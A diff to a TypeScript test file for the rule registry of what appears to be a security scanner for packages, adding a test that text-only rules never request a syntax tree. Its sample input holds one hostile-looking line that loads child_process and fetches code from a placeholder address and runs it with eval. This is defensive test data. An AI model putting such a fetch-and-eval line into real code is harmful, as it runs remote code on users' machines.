@@ -1,6 +1,8 @@
 import { existsSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import type { FileContext, PackageInfo } from '../types.js';
+import { parseSource } from '../parse.js';
 import { rules } from './index.js';
 
 // The registry is the only list of rules: sorted, keyed by each rule's own id (its folder name),
@@ -27,5 +29,24 @@ describe('rule registry', () => {
     expect(rule.meta.description.length).toBeGreaterThan(10);
     expect(rule.create ?? rule.checkPackage).toBeDefined();
     for (const file of ['README.md', 'rule.test.ts', 'samples']) expect(existsSync(join(__dirname, id, file)), `${id}/${file}`).toBe(true);
+  });
+
+  it.each(ids.filter((id) => rules[id]!.meta.textOnly))('%s, text-only, asks for no AST', (id) => {
+    const text = "const a = require('child_process');\nfetch('http://192.0.2.1/x').then(eval);\n";
+    const pkg: PackageInfo = { name: 'p', version: '1.0.0', manifest: {}, files: ['index.js'], executables: [] };
+    let asked = false;
+    const ctx: FileContext = {
+      pkg,
+      file: { path: 'index.js', text },
+      get ast() {
+        asked = true;
+        return parseSource(text, 'index.js').program;
+      },
+      report: () => {},
+      source: (n) => text.slice(n.start, n.end),
+    };
+    const visitor = rules[id]!.create!(ctx);
+    expect(Object.keys(visitor)).toEqual(['onText']);
+    expect(asked).toBe(false);
   });
 });
